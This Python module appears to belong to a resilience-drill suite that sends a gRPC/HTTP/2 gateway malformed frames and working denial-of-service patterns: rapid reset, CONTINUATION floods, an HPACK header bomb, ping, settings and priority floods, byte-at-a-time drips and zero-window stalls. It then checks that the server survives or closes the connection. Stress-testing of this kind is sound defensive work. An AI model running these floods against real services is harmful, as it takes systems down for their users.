"""HTTP/2: floods, stalls, broken frames, and data that is not HTTP/2."""

import contextlib
import random
import socket
import ssl
import time
from functools import partial

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from drills.attacks.attack import Attack
from drills.attacks.target import GET, OTHER, VERIFY, Outcome, Target, somebody
from drills.attacks.wire import PREFACE, Wire

_LONG = 20.0
_INITIAL_WINDOW, _MAX_FRAME = 4, 5
_ENDED = (
    "closed", "GOAWAY ENHANCE_YOUR_CALM", "GOAWAY PROTOCOL_ERROR", "GOAWAY FRAME_SIZE_ERROR", "GOAWAY INTERNAL_ERROR",
    "GOAWAY NO_ERROR", "GOAWAY COMPRESSION_ERROR", "GOAWAY FLOW_CONTROL_ERROR",
)  # fmt: skip
_BORNE = (*_ENDED, "borne")


def attacks(_: Target) -> list[Attack]:
    """All of them. The outcome is "borne" if the connection goes on and its calls are answered as usual."""
    broken: dict[str, bytes] = {
        "a frame cut off": HeadersFrame(1, b"\x00" * 100, flags=["END_HEADERS"]).serialize()[:40],
        "a frame of 16 MB": (0xFFFFFF).to_bytes(3, "big") + b"\x00\x00" + (1).to_bytes(4, "big") + bytes(100_000),
        "headers that are no HPACK": HeadersFrame(1, b"\xff" * 200, flags=["END_HEADERS"]).serialize(),
        "data without a stream": DataFrame(7, b"x" * 100).serialize(),
        "data on stream 0": b"\x00\x00\x01\x00\x00\x00\x00\x00\x00x",
        "an even stream": HeadersFrame(2, b"\x82", flags=["END_HEADERS"]).serialize(),
        "a continuation of nothing": ContinuationFrame(1, b"\x82").serialize(),
        "a settings frame of 5 bytes": b"\x00\x00\x05\x04\x00\x00\x00\x00\x00xxxxx",
        "a window of 2 GB twice": WindowUpdateFrame(0, 0x7FFFFFFF).serialize() * 2,
    }
    made = [Attack(name, partial(_broken, data), _BORNE) for name, data in broken.items()]
    return [
        *made,
        Attack("HTTP/1 on the gRPC port", partial(_foreign, b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"), ("closed",)),
        Attack("a TLS hello on the plain port", _hello, ("closed",)),
        Attack("noise", _noise, ("closed",)),
        Attack("half a preface", _slow_preface, _ENDED),
        Attack("a preface and no settings", _no_settings, _ENDED),
        Attack("a byte at a time", _drip, _ENDED),
        Attack("200 connections that say nothing", _silent, _BORNE),
        Attack("continuations without end", _continuations, _ENDED),
        Attack("a header block that grows a thousandfold", _hpack_bomb, (*_ENDED, "RESOURCE_EXHAUSTED", "borne")),
        Attack("rapid reset", _rapid_reset, _BORNE),
        Attack("rapid reset with a token", _rapid_reset_with_token, _BORNE),
        Attack("pings without end", partial(_flood, PingFrame(opaque_data=b"drill678")), _BORNE),
        Attack("settings without end", partial(_flood, SettingsFrame(settings={_INITIAL_WINDOW: 1})), _BORNE),
        Attack("empty data without end", _empty_data, _BORNE),
        Attack("priorities without end", _priorities, _BORNE),
        Attack("answers that nobody reads", _stall, ("borne",)),
        Attack("calls without an end", _unended, _BORNE),
    ]


def _broken(data: bytes, target: Target, _: random.Random) -> Outcome:
    with Wire(target.state.gateway) as wire:
        wire.read(lambda w: w.frames > 0)
        wire.send(data)
        return _after(wire, target, 1.0)


def _after(wire: Wire, target: Target, seconds: float) -> Outcome:
    """How the connection ended; "borne" if it did not and a new connection is served."""
    ending = wire.ending(seconds)
    return Outcome(fresh(target) if ending == "open" else ending)


def fresh(target: Target, client: str = OTHER) -> str:
    """Returns "borne" if another member is served over a new connection; the attacker's quota may be used up."""
    with Wire(target.state.gateway) as wire:
        wire.request(1, f"/{VERIFY}", target.identity(client))
        wire.message(1, somebody())
        reply = wire.outcome().reply
        return "borne" if reply == "OK" else f"others get {reply}"


def _foreign(data: bytes, target: Target, _: random.Random) -> Outcome:
    with Wire(target.state.gateway, greet=False) as wire:
        wire.send(data)
        wire.read(lambda w: w.closed, 10)
        return Outcome("closed" if wire.closed or wire.farewell else "open")


def _noise(target: Target, source: random.Random) -> Outcome:
    return _foreign(source.randbytes(4096), target, source)


def _hello(target: Target, source: random.Random) -> Outcome:
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return _foreign(outgoing.read(), target, source)


def _slow_preface(target: Target, _: random.Random) -> Outcome:
    with Wire(target.state.gateway, greet=False) as wire:
        wire.send(PREFACE[:10])
        return Outcome(wire.ending(_LONG))


def _no_settings(target: Target, _: random.Random) -> Outcome:
    with Wire(target.state.gateway, greet=False) as wire:
        wire.send(PREFACE)
        return Outcome(wire.ending(_LONG))


def _drip(target: Target, _: random.Random) -> Outcome:
    with Wire(target.state.gateway, greet=False) as wire:
        deadline = time.monotonic() + _LONG
        for byte in PREFACE[:-1] * 1000:
            if not wire.send(bytes([byte])) or wire.ending(1.0) != "open" or time.monotonic() > deadline:
                break
        return Outcome(wire.ending(0))


def _silent(target: Target, _: random.Random) -> Outcome:
    host, _colon, port = target.state.gateway.rpartition(":")
    held = [socket.create_connection((host, int(port)), timeout=5) for _ in range(200)]
    try:
        return Outcome(fresh(target))
    finally:
        for each in held:
            each.close()


def _continuations(target: Target, _: random.Random) -> Outcome:
    with Wire(target.state.gateway) as wire:
        wire.send(HeadersFrame(1, wire.block(f"/{VERIFY}")))
        for number in range(2000):
            block = wire.block("/x", (f"x-{number}", "a" * 8000))
            if not wire.send(ContinuationFrame(1, block)):
                break
        return Outcome(wire.ending())


def _hpack_bomb(target: Target, _: random.Random) -> Outcome:
    """One large header in the table, then many references of one byte to it."""
    with Wire(target.state.gateway) as wire:
        large = b"\x40\x05x-big" + b"\x7f" + bytes([3500 - 127 & 0x7F | 0x80, 3500 - 127 >> 7]) + b"a" * 3500
        wire.send(HeadersFrame(1, wire.block(f"/{VERIFY}") + large + b"\xbe" * 12_000, flags=["END_HEADERS"]))
        outcome = wire.outcome(1)
        return Outcome(fresh(target)) if outcome.reply == "open" else outcome


def _rapid_reset(target: Target, _: random.Random) -> Outcome:
    return _resets(target, ())


def _rapid_reset_with_token(target: Target, _: random.Random) -> Outcome:
    return _resets(target, (target.identity(),))


def _resets(target: Target, pairs: tuple[tuple[str, str | bytes], ...]) -> Outcome:
    with Wire(target.state.gateway) as wire:
        for number in range(1000):
            stream = 2 * number + 1
            begun = HeadersFrame(stream, wire.block(f"/{VERIFY}", *pairs), flags=["END_HEADERS"])
            if not wire.send(begun, RstStreamFrame(stream, 8)):
                break
        return _after(wire, target, 1.0)


def _flood(frame: Frame, target: Target, _: random.Random) -> Outcome:
    with Wire(target.state.gateway) as wire:
        wire.read(lambda w: w.frames > 0)
        for _time in range(200):
            if not wire.send(frame.serialize() * 100):
                break
        return _after(wire, target, 1.0)


def _empty_data(target: Target, _: random.Random) -> Outcome:
    with Wire(target.state.gateway) as wire:
        wire.request(1, f"/{VERIFY}", target.identity())
        for _time in range(200):
            if not wire.send(DataFrame(1, b"").serialize() * 100):
                break
        return _after(wire, target, 1.0)


def _priorities(target: Target, _: random.Random) -> Outcome:
    frames = b"".join(PriorityFrame(2 * n + 1, depends_on=0, stream_weight=n % 256).serialize() for n in range(20_000))
    return _broken(frames, target, _)


def _stall(target: Target, _: random.Random) -> Outcome:
    """A thousand calls whose answers have no window and are never read."""
    with Wire(target.state.gateway, {_INITIAL_WINDOW: 0, _MAX_FRAME: 16384}) as wire:
        for number in range(1000):
            stream = 2 * number + 1
            if not wire.request(stream, f"/{GET}", target.identity()) or not wire.message(stream, somebody()):
                break
        time.sleep(1)
        return Outcome(fresh(target))


def _unended(target: Target, _: random.Random) -> Outcome:
    """Calls without a message: more than a connection may have at once."""
    with Wire(target.state.gateway) as wire:
        for number in range(1500):
            if not wire.request(2 * number + 1, f"/{VERIFY}", target.identity()):
                break
        return _after(wire, target, 1.0)
